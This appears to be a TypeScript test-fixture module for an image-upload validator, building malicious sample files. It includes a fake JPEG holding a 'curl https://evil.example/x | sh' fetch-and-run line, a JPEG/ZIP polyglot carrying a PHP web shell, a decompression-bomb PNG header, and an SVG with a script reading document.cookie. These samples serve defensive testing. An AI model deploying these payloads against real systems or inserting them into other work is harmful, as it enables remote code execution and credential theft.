export { scriptNamedJpeg, jpegZipPolyglot, zipSignature, claimedHugePng, truncatedJpeg, scriptedSvg };

import { deflateRawSync, crc32 } from 'node:zlib';
import sharp from 'sharp';

/** A ZIP local file header: its presence in a stored file means the appended archive survived. */
const zipSignature = Buffer.from([0x50, 0x4b, 0x03, 0x04]);

/** A shell script with a photo's name. */
function scriptNamedJpeg(): Buffer {
  return Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
}

/** A valid JPEG with a ZIP archive appended: image viewers show the picture, unzip finds the archive. */
async function jpegZipPolyglot(jpeg: Buffer): Promise<Buffer> {
  const content = Buffer.from('<?php system($_GET["c"]); ?>');
  const data = deflateRawSync(content);
  const name = Buffer.from('shell.php');
  const local = Buffer.alloc(30);
  zipSignature.copy(local, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc32(content), 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  return Buffer.concat([jpeg, local, name, data]);
}

/** A small PNG whose header claims 30000 x 30000 pixels: a decompression bomb as a decoder first sees it. */
async function claimedHugePng(): Promise<Buffer> {
  const png = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#336699' } })
    .png()
    .toBuffer();
  const patched = Buffer.from(png);
  // IHDR starts at byte 8: length (4), type (4), width (4), height (4), ..., then its CRC over type and data.
  patched.writeUInt32BE(30000, 16);
  patched.writeUInt32BE(30000, 20);
  patched.writeUInt32BE(crc32(patched.subarray(12, 29)), 29);
  return patched;
}

/** A JPEG cut off in the middle, as an interrupted transfer leaves it. */
function truncatedJpeg(jpeg: Buffer): Buffer {
  return jpeg.subarray(0, Math.floor(jpeg.length / 2));
}

/** An SVG carrying a script. */
function scriptedSvg(): Buffer {
  return Buffer.from(
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><script>alert(document.cookie)</script><rect width="400" height="300" fill="red"/></svg>',
  );
}
